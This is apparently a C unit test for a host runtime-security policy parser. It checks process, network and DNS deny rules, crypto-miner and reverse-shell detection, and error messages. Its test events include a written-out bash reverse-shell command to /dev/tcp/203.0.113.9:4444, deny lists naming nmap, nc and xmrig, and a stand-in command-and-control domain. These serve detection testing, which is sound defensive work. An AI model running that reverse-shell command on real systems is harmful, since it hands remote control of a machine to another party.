/*
 * test_runtime_host: Prisma's runtime.HostPolicy read through runtime_host_policy_from_json():
 * each translated section decides what the host rule says (deny lists, allow lists, effects,
 * miners, reverse shells), the container-only checks are off, ignored members are accepted but
 * type-checked, unknown members are refused with a sentence naming them in host terms.
 */
#include "t.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "../../defender/runtime_host.h"

static json_t *load(const char *text)
{
	json_error_t e;
	json_t *j = json_loads(text, JSON_DECODE_ANY, &e);

	if (j == NULL)
		fprintf(stderr, "  bad test JSON: %s\n", e.text);
	return j;
}

static struct runtime_policy *parse_ok(const char *text)
{
	json_t *j = load(text);
	struct runtime_policy *p = NULL;
	char err[256] = "";
	int r = runtime_host_policy_from_json(j, &p, err, sizeof(err));

	if (r != 0)
		fprintf(stderr, "  unexpected error: %s\n", err);
	T_CHECK_INT(r, 0);
	json_decref(j);
	return p;
}

static void parse_err(const char *text, const char *want)
{
	json_t *j = load(text);
	struct runtime_policy *p = NULL;
	char err[256] = "";

	T_CHECK_INT(runtime_host_policy_from_json(j, &p, err, sizeof(err)), -EINVAL);
	T_CHECK(p == NULL);
	if (want != NULL)
		T_CHECK_STR(err, want);
	else
		T_CHECK(err[0] != '\0');
	json_decref(j);
}

static struct runtime_workload host_wl(void)
{
	struct runtime_workload w = { 0 };

	w.subject.host = "node-1";
	w.subject.cluster = "prod";
	return w;
}

static struct event exec_ev(const char *path, const char *arg1, const char *arg2)
{
	struct event ev = { 0 };
	size_t n = 0;
	const char *args[] = { path, arg1, arg2 };

	ev.type = EVENT_EXEC;
	ev.time_ns = 1000000000ull;
	ev.pid = ev.tgid = 42;
	snprintf(ev.exec.filename, sizeof(ev.exec.filename), "%s", path);
	for (int i = 0; i < 3 && args[i]; i++) {
		size_t l = strlen(args[i]) + 1;
		memcpy(ev.exec.args + n, args[i], l);
		n += l;
	}
	ev.exec.args_len = n;
	return ev;
}

static struct event net_ev(enum event_type type, const char *ip, int port)
{
	struct event ev = { 0 };

	ev.type = type;
	ev.time_ns = 1000000000ull;
	ev.net.family = AF_INET;
	ev.net.proto = IPPROTO_TCP;
	ev.net.port = (uint16_t)port;
	inet_pton(AF_INET, ip, ev.net.addr);
	return ev;
}

static struct event dns_ev(const char *name)
{
	struct event ev = { 0 };

	ev.type = EVENT_DNS;
	ev.time_ns = 1000000000ull;
	ev.dns.family = AF_INET;
	ev.dns.port = 53;
	ev.dns.qtype = 1;
	snprintf(ev.dns.qname, sizeof(ev.dns.qname), "%s", name);
	return ev;
}

static const char *full_policy =
	"{\"_id\":\"hostRuntime\",\"owner\":\"admin\",\"rules\":[{"
	" \"name\":\"hosts\",\"owner\":\"admin\",\"modified\":\"2026-11-27T09:00:00Z\",\"notes\":\"n\","
	" \"collections\":[{\"name\":\"All\"}],"
	" \"antiMalware\":{\"deniedProcesses\":{\"paths\":[\"nmap\",\"/opt/bad/*\"],\"effect\":\"prevent\"},"
	"  \"allowedProcesses\":[\"/usr/bin/xmrig-allowed\"],\"cryptoMiner\":\"block\",\"reverseShell\":\"alert\","
	"  \"tempFSProc\":\"alert\",\"encryptedBinaries\":\"alert\",\"webShell\":\"disable\",\"intelligenceFeed\":\"alert\","
	"  \"skipSSHTracking\":false,\"detectCompilerGeneratedBinary\":true,\"wildFireAnalysis\":\"disable\"},"
	" \"network\":{\"deniedOutboundIPs\":[\"203.0.113.0/24\"],\"allowedOutboundIPs\":[\"203.0.113.7\"],"
	"  \"deniedListeningPorts\":[{\"start\":2222,\"end\":2223,\"deny\":true}],"
	"  \"deniedOutboundPorts\":[{\"start\":6667}],\"denyListEffect\":\"prevent\",\"customFeed\":\"alert\"},"
	" \"dns\":{\"deny\":[\"*.evil.example\"],\"allow\":[\"ok.evil.example\"],\"denyListEffect\":\"alert\","
	"  \"intelligenceFeed\":\"disable\"},"
	" \"fileIntegrityRules\":[{\"path\":\"/etc\",\"dir\":true,\"recursive\":true,\"write\":true,"
	"  \"exclusions\":[\"*.swp\"],\"procWhitelist\":[],\"read\":false,\"metadata\":true}],"
	" \"logInspectionRules\":[{\"path\":\"/var/log/auth.log\",\"regex\":[\"fail\"]}],"
	" \"forensic\":{\"activitiesDisabled\":false,\"sshdEnabled\":true},"
	" \"customRules\":[]"
	"}]}";

T_TEST(test_translate_and_decide)
{
	struct runtime_policy *p = parse_ok(full_policy);
	struct runtime_workload w = host_wl();
	struct runtime_decision d;
	struct event ev;

	if (p == NULL)
		return;
	T_CHECK_INT(runtime_policy_rules(p), 1);
	ev = exec_ev("/usr/bin/nmap", "-sS", NULL);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedProcess");
	T_CHECK_STR(d.rule, "hosts");
	ev = exec_ev("/opt/bad/tool", NULL, NULL);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedProcess");
	ev = exec_ev("/usr/local/bin/xmrig", NULL, NULL);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	T_CHECK_STR(d.attack_type, "cryptoMinerProcess");
	/* allowedProcesses exempts from the built-ins */
	ev = exec_ev("/usr/bin/xmrig-allowed", "--donate-level", "1");
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0);
	ev = exec_ev("/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1");
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "reverseShell");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	/* an ordinary process on a host: no learned model, nothing to say */
	ev = exec_ev("/usr/bin/ls", NULL, NULL);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0);

	ev = net_ev(EVENT_CONNECT, "203.0.113.5", 443);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedIP");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	ev = net_ev(EVENT_CONNECT, "198.51.100.1", 6667);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedOutboundPort");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_PREVENT);
	ev = net_ev(EVENT_LISTEN, "0.0.0.0", 2223);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedListeningPort");
	ev = net_ev(EVENT_LISTEN, "0.0.0.0", 8080);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0);
	/* cloud metadata is the host's own business: off for host rules */
	ev = net_ev(EVENT_CONNECT, "169.254.169.254", 80);
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0);

	ev = dns_ev("c2.evil.example");
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_STR(d.attack_type, "explicitlyDeniedDNS");
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	/* deny lists are checked before allow lists (the container engine's order) */
	ev = dns_ev("ok.evil.example");
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	ev = dns_ev("www.example.org");
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0);
	runtime_policy_free(p);
}

T_TEST(test_translation_document)
{
	json_t *j = load(full_policy), *doc = NULL, *r0;
	char err[256];

	T_CHECK_INT(runtime_host_policy_translate(j, &doc, err, sizeof(err)), 0);
	r0 = json_array_get(json_object_get(doc, "rules"), 0);
	T_CHECK(json_is_true(json_object_get(doc, "learningDisabled")));
	T_CHECK_STR(json_string_value(json_object_get(doc, "_id")), "hostRuntime");
	T_CHECK_STR(json_string_value(json_object_get(json_object_get(r0, "network"),
						      "deniedIPsEffect")), "prevent");
	T_CHECK_STR(json_string_value(json_object_get(json_object_get(json_object_get(r0, "dns"),
				"domainList"), "effect")), "alert");
	T_CHECK_STR(json_string_value(json_object_get(r0, "cloudMetadataEnforcementEffect")),
		    "disable");
	T_CHECK(json_is_true(json_object_get(json_object_get(r0, "filesystem"), "disabled")));
	T_CHECK(json_object_get(r0, "fileIntegrityRules") == NULL);
	json_decref(doc);
	json_decref(j);
}

T_TEST(test_bare_array_and_empty)
{
	struct runtime_policy *p = parse_ok("[{\"name\":\"a\"},{\"name\":\"b\",\"disabled\":true}]");
	struct runtime_workload w = host_wl();
	struct runtime_decision d;
	struct event ev = exec_ev("/usr/bin/xmrig", NULL, NULL);

	T_CHECK_INT(runtime_policy_rules(p), 2);
	/* a rule without sections: built-ins alert (Prisma's default) */
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_ALERT);
	runtime_policy_free(p);
	p = parse_ok("{}");
	T_CHECK_INT(runtime_policy_rules(p), 0);
	runtime_policy_free(p);
	p = parse_ok("{\"_id\":\"x\",\"rules\":null}");
	T_CHECK_INT(runtime_policy_rules(p), 0);
	runtime_policy_free(p);
}

T_TEST(test_collections_scope)
{
	struct runtime_policy *p = parse_ok(
		"{\"rules\":[{\"name\":\"prod\",\"collections\":[{\"name\":\"prod\",\"hosts\":[\"prod-*\"]}],"
		"\"antiMalware\":{\"deniedProcesses\":{\"paths\":[\"nc\"],\"effect\":\"block\"}}}]}");
	struct runtime_workload w = host_wl();
	struct runtime_decision d;
	struct event ev = exec_ev("/bin/nc", NULL, NULL);

	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 0); /* node-1 is not prod-* */
	w.subject.host = "prod-7";
	T_CHECK_INT(runtime_evaluate(p, NULL, &ev, &w, &d), 1);
	T_CHECK_INT(d.effect, RUNTIME_EFFECT_BLOCK);
	runtime_policy_free(p);
}

T_TEST(test_errors)
{
	parse_err("{\"rules\":[{\"name\":\"a\",\"processes\":{}}]}",
		  "rules[0]: unknown member \"processes\"");
	parse_err("{\"rules\":[],\"learningDisabled\":true}", "policy: unknown member \"learningDisabled\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"network\":{\"deniedIPs\":[]}}]}",
		  "rules[0].network: unknown member \"deniedIPs\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"dns\":{\"blacklist\":[]}}]}",
		  "rules[0].dns: unknown member \"blacklist\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"antiMalware\":{\"cryptoMiners\":\"alert\"}}]}",
		  "rules[0].antiMalware: unknown member \"cryptoMiners\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"fileIntegrityRules\":[{\"path\":\"/x\",\"bogus\":1}]}]}",
		  "rules[0].fileIntegrityRules[0]: unknown member \"bogus\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"forensic\":{\"sshdEnabled\":\"yes\"}}]}",
		  "rules[0].forensic.sshdEnabled: not a boolean");
	parse_err("{\"rules\":[{\"name\":\"a\",\"antiMalware\":{\"webShell\":\"kill\"}}]}",
		  "rules[0].antiMalware.webShell: not an effect (disable, alert, prevent, block)");
	/* errors found by the container parser are said in host terms */
	parse_err("{\"rules\":[{\"name\":\"a\",\"network\":{\"deniedOutboundIPs\":[\"1.2.3.4\",\"nope\"]}}]}",
		  "rules[0].network.deniedOutboundIPs[1]: not an IP address or CIDR");
	parse_err("{\"rules\":[{\"name\":\"a\",\"network\":{\"denyListEffect\":\"stop\"}}]}",
		  "rules[0].network.denyListEffect: \"stop\" is not an effect (disable, alert, prevent, block)");
	parse_err("{\"rules\":[{\"name\":\"a\",\"network\":{\"deniedListeningPorts\":[{\"start\":0}]}}]}",
		  "rules[0].network.deniedListeningPorts[0]: ports must be 1..65535 with start <= end");
	parse_err("{\"rules\":[{\"name\":\"a\",\"antiMalware\":{\"deniedProcesses\":{\"paths\":[],\"x\":1}}}]}",
		  "rules[0].antiMalware.deniedProcesses: unknown member \"x\"");
	parse_err("{\"rules\":[{\"name\":\"a\",\"antiMalware\":{\"cryptoMiner\":\"maybe\"}}]}",
		  "rules[0].antiMalware.cryptoMiner: \"maybe\" is not an effect (disable, alert, prevent, block)");
	parse_err("{\"rules\":[{\"name\":\"\"}]}", "rules[0].name: a rule needs a name of 1..255 bytes");
	parse_err("{\"rules\":[{\"name\":\"a\"},{\"name\":\"a\"}]}",
		  "rules[1].name: \"a\" is the name of rules[0] too");
	parse_err("{\"rules\":{}}", "policy.rules: not an array");
	parse_err("\"x\"", "policy: not an object");
	parse_err("{\"rules\":[7]}", "rules[0]: not an object");
}

int main(int argc, char **argv)
{
	static const struct t_case cases[] = {
		T_CASE(test_translate_and_decide),
		T_CASE(test_translation_document),
		T_CASE(test_bare_array_and_empty),
		T_CASE(test_collections_scope),
		T_CASE(test_errors),
	};
	return t_run(cases, sizeof(cases) / sizeof(cases[0]), argc, argv);
}
